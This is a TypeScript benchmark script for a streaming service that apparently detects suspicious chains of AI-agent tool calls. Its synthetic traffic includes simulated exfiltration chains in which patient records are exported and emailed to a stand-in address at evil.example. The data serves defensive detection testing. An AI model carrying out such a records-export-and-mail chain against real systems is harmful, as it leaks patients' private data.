/**
 * End-to-end benchmark (`npm run bench:e2e`), real broker and Redis, one run on this machine:
 *
 *   (a) a raw kafkajs passthrough: consume the input topic, produce each message to another topic;
 *   (b) chainwatch run (in process: StreamService with the app's metrics SDK) with 100 patterns (the
 *       built-in library + generated variants), 10 000 users, on the same events;
 *   (c) detection latency, event produced → alert readable (read_committed), at half of (b)'s rate
 *       (after 5 s of warm-up at that rate, which is not measured).
 *
 * With --breakdown, only (b), three times on the same input: as is; with the in-memory store instead of
 * Redis; with the batch work (state and engine) left out, so only Kafka, parsing and the transaction
 * remain. The differences in CPU per event are what Redis (client side) and the engine cost here.
 *
 * For (a) and (b), where the machine's CPU went (bench/lib/cpu.ts): cores busy machine-wide, and CPU
 * per event of this process, the Redis server and the rest (the broker) — whether a phase is CPU-bound
 * on this machine, and on whose CPU.
 *
 * Prints a table and writes bench/results/e2e.json. Options: --events N (default 1 000 000),
 * --users N (10 000), --partitions N (4), --latency-seconds S (20), --fetch-bytes N (1 MiB, kafkajs'
 * default: both consumers' most bytes per partition and fetch, CHAINWATCH_KAFKA_MAX_BYTES_PER_PARTITION
 * for (b)), --batch-size N (4000, the service's CHAINWATCH_BATCH_SIZE: about one such fetch of a
 * partition here, as the passthrough handles a fetch at a time), --worker-threads N (the service's
 * CHAINWATCH_WORKER_THREADS; default this machine's cores, at most the partitions). Brokers / Redis from
 * KAFKA_BROKERS / REDIS_URL (default 127.0.0.1:9092 / redis://127.0.0.1:6379).
 */
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { Session } from "node:inspector";
import { availableParallelism, loadavg, tmpdir } from "node:os";
import { join } from "node:path";
import { parseArgs } from "node:util";
import { Redis } from "ioredis";
import { Kafka, logLevel, Partitioners } from "kafkajs";
import type { Alert } from "../src/alerts/types.js";
import { loadConfig } from "../src/config/load.js";
import { MemoryStore } from "../src/state/memory.js";
import { type ServiceOptions, StreamService } from "../src/stream/service.js";
import { installMetrics } from "../src/telemetry/http.js";
import { createLogger } from "../src/telemetry/logger.js";
import { type CpuSnapshot, type CpuUse, cpuSnapshot, cpuUse } from "./lib/cpu.js";
import { int, pick, prng } from "./lib/random.js";
import { machine, writeResults } from "./lib/results.js";

const ROOT = join(import.meta.dirname, "..");
const { values: args } = parseArgs({
  options: {
    events: { type: "string", default: "1000000" },
    users: { type: "string", default: "10000" },
    partitions: { type: "string", default: "4" },
    "latency-seconds": { type: "string", default: "20" },
    "batch-size": { type: "string", default: "4000" },
    "fetch-bytes": { type: "string", default: String(1024 * 1024) },
    "worker-threads": { type: "string" },
    /** Only (b), printed and not written: for profiling the service (with --cpu-prof-file). */
    "only-chainwatch": { type: "boolean", default: false },
    /** Only (b), three ways (see above), printed and not written. */
    breakdown: { type: "boolean", default: false },
    /** Writes a V8 CPU profile of (b) alone to this file (open it in Chrome DevTools). */
    "cpu-prof-file": { type: "string" },
    /** Writes a V8 sampling heap profile (allocations) of (b) alone to this file. */
    "heap-prof-file": { type: "string" },
  },
});
const EVENTS = Number(args.events);
const USERS = Number(args.users);
const PARTITIONS = Number(args.partitions);
const LATENCY_SECONDS = Number(args["latency-seconds"]);
const BATCH_SIZE = Number(args["batch-size"]);
const FETCH_BYTES = Number(args["fetch-bytes"]);
/** Messages per produce request of the passthrough (a few hundred KB of the bench's events). */
const PRODUCE_SLICE = 2000;
const WORKER_THREADS = Number(args["worker-threads"] ?? Math.min(availableParallelism(), PARTITIONS));
const WARMUP_MS = 5000;
const BROKERS = (process.env.KAFKA_BROKERS ?? "127.0.0.1:9092").split(",");
const REDIS_URL = process.env.REDIS_URL ?? "redis://127.0.0.1:6379";
const RUN = `bench-e2e-${process.pid}-${Date.now().toString(36)}`;

const kafka = new Kafka({ clientId: "bench-e2e", brokers: BROKERS, logLevel: logLevel.NOTHING });
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

// --- traffic: seeded, per-user time order, ~3% of users run an exfiltration chain -----------------
const BENIGN: Array<[string, string]> = [
  ["ehr", "list_patients"],
  ["ehr", "get_patient_record"],
  ["ehr", "read_chart"],
  ["mail", "search_emails"],
  ["mail", "read_email"],
  ["mail", "draft_email"],
  ["files", "list_directory"],
  ["files", "read_file"],
  ["files", "write_file"],
  ["crm", "query_accounts"],
  ["crm", "get_contact"],
  ["web", "fetch_url"],
];

interface Ev {
  event_id: string;
  timestamp: number;
  user_id: string;
  server: string;
  tool: string;
  [k: string]: unknown;
}

/** An endless stream generator: `next(ts)` gives the next event at (or after) event time ts. */
function trafficSource(seed: number, userPrefix: string) {
  const r = prng(seed);
  const pending: Ev[] = [];
  let seq = 0;
  const ev = (user: number, ts: number, server: string, tool: string): Ev => ({
    event_id: `${userPrefix}-${(seq++).toString(36)}`,
    timestamp: ts,
    user_id: `${userPrefix}-${user}`,
    server,
    tool,
    session_id: `s-${user}`,
    agent_id: "bench-agent",
    outcome: "success",
  });
  const chain = (user: number, ts: number) => {
    let t = ts;
    const after = (lo: number, hi: number) => {
      t += int(r, lo, hi);
      return t;
    };
    for (let i = 0; i < 3; i++)
      pending.push({
        ...ev(user, after(200, 2000), "ehr", "list_patients"),
        arguments: { patient_id: `p-${int(r, 1, 9999)}` },
      });
    const file = `f-${int(r, 1, 1e9)}`;
    pending.push({
      ...ev(user, after(200, 5000), "ehr", "export_records"),
      arguments: { format: "csv" },
      result: { file_id: file },
    });
    pending.push({
      ...ev(user, after(200, 5000), "mail", "send_email"),
      arguments: { to: `drop${int(r, 1, 9)}@evil.example`, attachment: file },
    });
    pending.sort((a, b) => a.timestamp - b.timestamp);
  };
  const busy = new Set<number>();
  return (ts: number): Ev => {
    if (pending.length && pending[0]!.timestamp <= ts) {
      const e = pending.shift()!;
      return e;
    }
    const user = int(r, 0, USERS - 1);
    if (r() < 0.005 && !busy.has(user)) {
      busy.add(user);
      chain(user, ts);
    }
    const [server, tool] = pick(r, BENIGN);
    const e = ev(user, ts, server, tool);
    e.arguments = { patient_id: `p-${int(r, 1, 9999)}`, query: "follow-up" };
    return e;
  };
}

// --- patterns: the built-in library + variants up to 100 --------------------------------------
function writePatterns(count: number): string {
  const dir = mkdtempSync(join(tmpdir(), "cw-bench-patterns-"));
  const lib = join(ROOT, "patterns");
  const files = readdirSync(lib).filter((f) => f.endsWith(".json") && f !== "taxonomy.json");
  writeFileSync(join(dir, "taxonomy.json"), readFileSync(join(lib, "taxonomy.json")));
  const originals = files.map(
    (f) => JSON.parse(readFileSync(join(lib, f), "utf8")) as Record<string, unknown>,
  );
  for (let i = 0; i < count; i++) {
    const p = structuredClone(originals[i % originals.length]!);
    delete p.tests;
    delete p.$schema;
    if (i >= originals.length) {
      p.id = `${p.id}.v${i}`;
      p.title = `${p.title} (variant ${i})`;
    }
    writeFileSync(join(dir, `${p.id}.json`), JSON.stringify(p));
  }
  return dir;
}

// --- Kafka helpers -----------------------------------------------------------------------------
async function createTopics(names: string[]) {
  const admin = kafka.admin();
  await admin.connect();
  await admin.createTopics({
    waitForLeaders: true,
    topics: names.map((topic) => ({ topic, numPartitions: PARTITIONS })),
  });
  await admin.disconnect();
}

async function produceAll(topic: string, events: Ev[]) {
  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
  await producer.connect();
  const started = performance.now();
  const batch = 2000;
  const inflight: Promise<unknown>[] = [];
  for (let i = 0; i < events.length; i += batch) {
    const messages = events.slice(i, i + batch).map((e) => ({ key: e.user_id, value: JSON.stringify(e) }));
    inflight.push(producer.send({ topic, messages, acks: -1 }));
    if (inflight.length >= 4) await inflight.shift();
  }
  await Promise.all(inflight);
  await producer.disconnect();
  return events.length / ((performance.now() - started) / 1000);
}

/** Polls until the group's committed offsets reach the end of the topic (one admin connection). */
async function waitCaughtUp(groupId: string, topic: string, everyMs: number): Promise<void> {
  const admin = kafka.admin();
  await admin.connect();
  try {
    for (;;) {
      const ends = await admin.fetchTopicOffsets(topic);
      const [committed] = await admin.fetchOffsets({ groupId, topics: [topic] });
      const done = ends.every((e) => {
        const c = committed?.partitions.find((p) => p.partition === e.partition);
        return BigInt(e.high) === 0n || (c !== undefined && BigInt(c.offset) >= BigInt(e.high));
      });
      if (done) return;
      await sleep(everyMs);
    }
  } finally {
    await admin.disconnect();
  }
}

/** (a) consume → produce each message to another topic, no work; events/s until all are through. */
async function passthrough(
  input: string,
  output: string,
  total: number,
): Promise<{ rate: number; cpu: CpuUse }> {
  const consumer = kafka.consumer({
    groupId: `${RUN}-passthrough`,
    maxWaitTimeInMs: 100,
    maxBytesPerPartition: FETCH_BYTES,
  });
  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
  await Promise.all([consumer.connect(), producer.connect()]);
  await consumer.subscribe({ topic: input, fromBeginning: true });
  let seen = 0;
  let started = 0;
  let cpu0: CpuSnapshot | undefined;
  let done!: () => void;
  const finished = new Promise<void>((r) => {
    done = r;
  });
  await consumer.run({
    partitionsConsumedConcurrently: PARTITIONS,
    eachBatch: async ({ batch }) => {
      started ||= performance.now();
      cpu0 ??= await cpuSnapshot();
      // A produce request's record batch must stay under the broker's message.max.bytes (1 MB): a fetch
      // may bring more, so it goes out in slices, all in flight at once.
      const messages = batch.messages.map((m) => ({ key: m.key, value: m.value, headers: m.headers }));
      const sends: Array<Promise<unknown>> = [];
      for (let i = 0; i < messages.length; i += PRODUCE_SLICE)
        sends.push(
          producer.send({ topic: output, acks: -1, messages: messages.slice(i, i + PRODUCE_SLICE) }),
        );
      await Promise.all(sends);
      seen += batch.messages.length;
      if (seen >= total) done();
    },
  });
  await finished;
  const seconds = (performance.now() - started) / 1000;
  const cpu = cpuUse(cpu0!, await cpuSnapshot(), seconds, total);
  await consumer.disconnect();
  await producer.disconnect();
  return { rate: total / seconds, cpu };
}

/** `input`: whose input topic to read (default its own); (b)'s breakdown variants share (b)'s. */
function serviceConfig(name: string, patternsDir: string, input = name) {
  return loadConfig({
    env: {
      CHAINWATCH_KAFKA_BROKERS: BROKERS.join(","),
      CHAINWATCH_GROUP_ID: `${RUN}-${name}`,
      CHAINWATCH_INPUT_TOPIC: `${RUN}-${input}-in`,
      CHAINWATCH_ALERT_TOPIC: `${RUN}-${name}-alerts`,
      CHAINWATCH_REDIS_URL: REDIS_URL,
      CHAINWATCH_REDIS_PREFIX: `${RUN}-${name}:`,
      CHAINWATCH_PATTERNS: patternsDir,
      CHAINWATCH_PARTITIONS_CONCURRENCY: String(PARTITIONS),
      CHAINWATCH_BATCH_SIZE: String(BATCH_SIZE),
      CHAINWATCH_WORKER_THREADS: String(WORKER_THREADS),
      CHAINWATCH_KAFKA_MAX_BYTES_PER_PARTITION: String(FETCH_BYTES),
      CHAINWATCH_LOG_LEVEL: process.env.BENCH_LOG_LEVEL ?? "warn",
    },
  });
}

/** Creates (b)'s topics and produces the events into its input. */
async function prepareChainwatch(patternsDir: string, events: Ev[]): Promise<number> {
  const config = serviceConfig("run", patternsDir);
  await createTopics([config.kafka.inputTopic, config.kafka.alertTopic, config.kafka.dlqTopic]);
  return produceAll(config.kafka.inputTopic, events);
}

/** (b) chainwatch from start until its committed offsets reach the end of its (prepared) input. */
async function chainwatch(
  patternsDir: string,
  variant: { name: string } & Pick<ServiceOptions, "storeFor" | "processBatch"> = { name: "run" },
): Promise<{ rate: number; cpuS: number; cpu: CpuUse }> {
  const { name, ...overrides } = variant;
  const config = serviceConfig(name, patternsDir, "run");
  const logger = createLogger(process.env.BENCH_LOG_LEVEL ?? "warn");
  const service = new StreamService({ config, logger, ...overrides });
  await service.start();
  // The clock starts once the group is joined and Redis answers, as (a)'s starts at its first batch:
  // neither counts the consumer group's join.
  while (!(await service.readiness()).ready) await sleep(20);
  const profiler = args["cpu-prof-file"] ? await startProfiler("cpu") : undefined;
  const heapProfiler = args["heap-prof-file"] ? await startProfiler("heap") : undefined;
  const redis = new Redis(REDIS_URL);
  const machine0 = await cpuSnapshot(redis);
  const cpu0 = process.cpuUsage();
  const started = performance.now();
  await waitCaughtUp(config.kafka.groupId, config.kafka.inputTopic, 50);
  const seconds = (performance.now() - started) / 1000;
  const cpu = process.cpuUsage(cpu0);
  const use = cpuUse(machine0, await cpuSnapshot(redis), seconds, EVENTS);
  redis.disconnect();
  if (profiler) writeFileSync(args["cpu-prof-file"]!, JSON.stringify(await profiler.stop()));
  if (heapProfiler) writeFileSync(args["heap-prof-file"]!, JSON.stringify(await heapProfiler.stop()));
  await service.stop();
  return { rate: EVENTS / seconds, cpuS: (cpu.user + cpu.system) / 1e6, cpu: use };
}

/** CPU profile, or sampled allocations (every allocation counted, not just what stays live). */
async function startProfiler(kind: "cpu" | "heap") {
  const session = new Session();
  session.connect();
  const post = (method: string, params?: object) =>
    new Promise<unknown>((resolve, reject) =>
      session.post(method, params, (err, res) => (err ? reject(err) : resolve(res))),
    );
  if (kind === "cpu") {
    await post("Profiler.enable");
    await post("Profiler.setSamplingInterval", { interval: 500 });
    await post("Profiler.start");
  } else {
    await post("HeapProfiler.enable");
    await post("HeapProfiler.startSampling", {
      samplingInterval: 16384,
      includeObjectsCollectedByMajorGC: true,
      includeObjectsCollectedByMinorGC: true,
    });
  }
  return {
    stop: async () => {
      const method = kind === "cpu" ? "Profiler.stop" : "HeapProfiler.stopSampling";
      const { profile } = (await post(method)) as { profile: unknown };
      session.disconnect();
      return profile;
    },
  };
}

/** (c) produce at `rate` events/s for LATENCY_SECONDS; per alert: read time − trigger produce time. */
async function latency(
  patternsDir: string,
  rate: number,
): Promise<{ p50: number; p99: number; max: number; alerts: number; sent: number }> {
  const config = serviceConfig("lat", patternsDir);
  await createTopics([config.kafka.inputTopic, config.kafka.alertTopic, config.kafka.dlqTopic]);
  const service = new StreamService({ config, logger: createLogger(process.env.BENCH_LOG_LEVEL ?? "warn") });
  await service.start();
  const reader = kafka.consumer({
    groupId: `${RUN}-lat-reader`,
    readUncommitted: false,
    maxWaitTimeInMs: 20,
  });
  await reader.connect();
  await reader.subscribe({ topic: config.kafka.alertTopic, fromBeginning: true });
  const producedAt = new Map<string, number>();
  const delays: number[] = [];
  const readerJoined = new Promise<void>((r) => reader.on(reader.events.GROUP_JOIN, () => r()));
  await reader.run({
    eachMessage: async ({ message }) => {
      const alert = JSON.parse(message.value!.toString()) as Alert;
      const at = producedAt.get(alert.trigger_event_id);
      if (at !== undefined) delays.push(performance.now() - at);
    },
  });
  // The clock starts once the service consumes (joined, Redis answering) and the reader has joined.
  await readerJoined;
  while (!(await service.readiness()).ready) await sleep(100);

  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
  await producer.connect();
  const next = trafficSource(99, "lat");
  const tickMs = 20;
  const perTick = Math.max(1, Math.round((rate * tickMs) / 1000));
  // The first seconds warm up (transactional producers per partition, group caches): not measured.
  const measureFrom = performance.now() + WARMUP_MS;
  const end = measureFrom + LATENCY_SECONDS * 1000;
  let sent = 0;
  let tick = performance.now();
  while (performance.now() < end) {
    const events: Ev[] = [];
    for (let i = 0; i < perTick; i++) events.push(next(Date.now()));
    const now = performance.now();
    if (now >= measureFrom) for (const e of events) producedAt.set(e.event_id, now);
    await producer.send({
      topic: config.kafka.inputTopic,
      acks: -1,
      messages: events.map((e) => ({ key: e.user_id, value: JSON.stringify(e) })),
    });
    sent += events.length;
    tick += tickMs;
    const wait = tick - performance.now();
    if (wait > 0) await sleep(wait);
  }
  await producer.disconnect();
  await waitCaughtUp(config.kafka.groupId, config.kafka.inputTopic, 200);
  await sleep(1000);
  await reader.disconnect();
  await service.stop();
  delays.sort((a, b) => a - b);
  const q = (p: number) =>
    delays.length ? delays[Math.min(delays.length - 1, Math.floor(p * delays.length))]! : Number.NaN;
  return { p50: q(0.5), p99: q(0.99), max: delays.at(-1) ?? Number.NaN, alerts: delays.length, sent };
}

/** (b) as is, with the memory store, and without the batch work: CPU per event of each, and the differences. */
async function breakdown(patternsDir: string): Promise<void> {
  const nothing = async () => ({ alerts: [], republished: [], duplicates: 0, tooLate: 0, evicted: 0 });
  const runs = [
    { label: "chainwatch run", name: "run" },
    { label: "… with the memory store", name: "memory", storeFor: () => new MemoryStore() },
    { label: "… without state or engine", name: "kafka", processBatch: nothing },
  ];
  const us: number[] = [];
  for (const { label, ...variant } of runs) {
    const r = await chainwatch(patternsDir, variant);
    us.push((r.cpuS * 1e6) / EVENTS);
    const perCpu = Math.round(EVENTS / r.cpuS);
    process.stdout.write(`${label.padEnd(28)} ${Math.round(r.rate)} events/s, ${perCpu}/CPU-s\n`);
  }
  const [all, memory, kafkaOnly] = us as [number, number, number];
  const f = (n: number) => `${n.toFixed(1)} µs`;
  process.stdout.write(
    `CPU per event in this process: ${f(all)} = Kafka, parsing, transactions ${f(kafkaOnly)}` +
      ` + engine (and memory store) ${f(memory - kafkaOnly)} + Redis client ${f(all - memory)}\n`,
  );
}

function prefixed(prefix: string, use: CpuUse): Record<string, number> {
  return Object.fromEntries(Object.entries(use).map(([k, v]) => [prefix + k, v]));
}

/** Machine-wide cores busy, then CPU per event: this process, Redis, the rest (the broker). */
function cpuRow(u: CpuUse): string {
  return (
    `${u.machine_cores} of ${machine().cores}; ${u.machine_us_per_event} = process ${u.process_us_per_event}` +
    ` + Redis ${u.redis_us_per_event} + rest ${u.other_us_per_event}`
  );
}

/** Deletes this run's topics: a full run leaves ~1 GB of them otherwise. */
async function deleteTopics() {
  const admin = kafka.admin();
  await admin.connect();
  const mine = (await admin.listTopics()).filter((t) => t.startsWith(RUN));
  if (mine.length) await admin.deleteTopics({ topics: mine }).catch(() => {});
  await admin.disconnect();
}

async function cleanRedis() {
  const redis = new Redis(REDIS_URL);
  let cursor = "0";
  do {
    const [next, keys] = await redis.scan(cursor, "MATCH", `${RUN}-*`, "COUNT", 1000);
    cursor = next;
    if (keys.length) await redis.unlink(...keys);
  } while (cursor !== "0");
  redis.disconnect();
}

async function main() {
  installMetrics(); // the app's metrics SDK, as in `chainwatch run`
  const patternsDir = writePatterns(100);
  const next = trafficSource(42, "u");
  let ts = Date.UTC(2026, 10, 20, 8, 0, 0);
  let events: Ev[] = [];
  for (let i = 0; i < EVENTS; i++) {
    ts += 6;
    events.push(next(ts));
  }
  // Both inputs are written before either side runs, and the events then dropped: neither (a) nor (b)
  // carries a million-event array in its heap (a service would not, and every major GC marks it).
  const input = `${RUN}-pass-in`;
  const output = `${RUN}-pass-out`;
  let produceRate = 0;
  if (!args["only-chainwatch"]) {
    await createTopics([input, output]);
    produceRate = await produceAll(input, events);
  }
  await prepareChainwatch(patternsDir, events);
  events = [];

  if (args.breakdown) {
    await breakdown(patternsDir);
    await cleanRedis();
    await deleteTopics();
    process.exit(0);
  }
  if (args["only-chainwatch"]) {
    const cw = await chainwatch(patternsDir);
    await cleanRedis();
    await deleteTopics();
    process.stdout.write(
      `(b) chainwatch run  ${Math.round(cw.rate)} events/s (${Math.round(EVENTS / cw.cpuS)}/CPU-s)\n` +
        `CPU: cores busy; µs/event  ${cpuRow(cw.cpu)}\n`,
    );
    process.exit(0);
  }
  process.stderr.write(`bench:e2e: ${EVENTS} events produced (${Math.round(produceRate)}/s); passthrough…\n`);
  const { rate: pass, cpu: passCpu } = await passthrough(input, output, EVENTS);
  process.stderr.write(`bench:e2e: passthrough ${Math.round(pass)} events/s; chainwatch…\n`);
  const cw = await chainwatch(patternsDir);
  process.stderr.write(
    `bench:e2e: chainwatch ${Math.round(cw.rate)} events/s; latency at ${Math.round(cw.rate / 2)}/s…\n`,
  );
  const lat = await latency(patternsDir, cw.rate / 2);
  await cleanRedis();
  await deleteTopics();

  const results = {
    events: EVENTS,
    users: USERS,
    patterns: 100,
    partitions: PARTITIONS,
    batch_size: BATCH_SIZE,
    worker_threads: WORKER_THREADS,
    max_bytes_per_partition: FETCH_BYTES,
    produce_events_per_s: Math.round(produceRate),
    passthrough_events_per_s: Math.round(pass),
    chainwatch_events_per_s: Math.round(cw.rate),
    chainwatch_events_per_cpu_s: Math.round(EVENTS / cw.cpuS),
    ratio: Number((cw.rate / pass).toFixed(3)),
    latency_rate_events_per_s: Math.round(cw.rate / 2),
    latency_events_sent: lat.sent,
    latency_alerts: lat.alerts,
    latency_p50_ms: Number(lat.p50.toFixed(1)),
    latency_p99_ms: Number(lat.p99.toFixed(1)),
    latency_max_ms: Number(lat.max.toFixed(1)),
    load_average_1m: Number(loadavg()[0]!.toFixed(2)),
    ...prefixed("passthrough_cpu_", passCpu),
    ...prefixed("chainwatch_cpu_", cw.cpu),
    machine: machine(),
    at: new Date().toISOString(),
  };
  const rows: Array<[string, string]> = [
    ["events / users / patterns", `${EVENTS} / ${USERS} / 100`],
    ["(a) kafkajs passthrough", `${results.passthrough_events_per_s} events/s`],
    [
      "(b) chainwatch run",
      `${results.chainwatch_events_per_s} events/s (${results.chainwatch_events_per_cpu_s}/CPU-s)`,
    ],
    ["fetch bytes per partition (a, b)", String(FETCH_BYTES)],
    ["(b) batch size / worker threads", `${BATCH_SIZE} / ${WORKER_THREADS}`],
    ["ratio b/a (target ≥ 0.7)", String(results.ratio)],
    [
      `latency at ${results.latency_rate_events_per_s}/s`,
      `p50 ${results.latency_p50_ms} ms, p99 ${results.latency_p99_ms} ms (${lat.alerts} alerts)`,
    ],
    ["CPU (a): cores busy; µs/event", cpuRow(passCpu)],
    ["CPU (b): cores busy; µs/event", cpuRow(cw.cpu)],
    ["load average (1m)", String(results.load_average_1m)],
  ];
  const w = Math.max(...rows.map(([k]) => k.length));
  for (const [k, v] of rows) process.stdout.write(`${k.padEnd(w)}  ${v}\n`);
  writeResults("e2e", results);
  process.exit(0);
}

main().catch((err) => {
  process.stderr.write(`bench:e2e: ${err?.stack ?? err}\n`);
  process.exit(1);
});
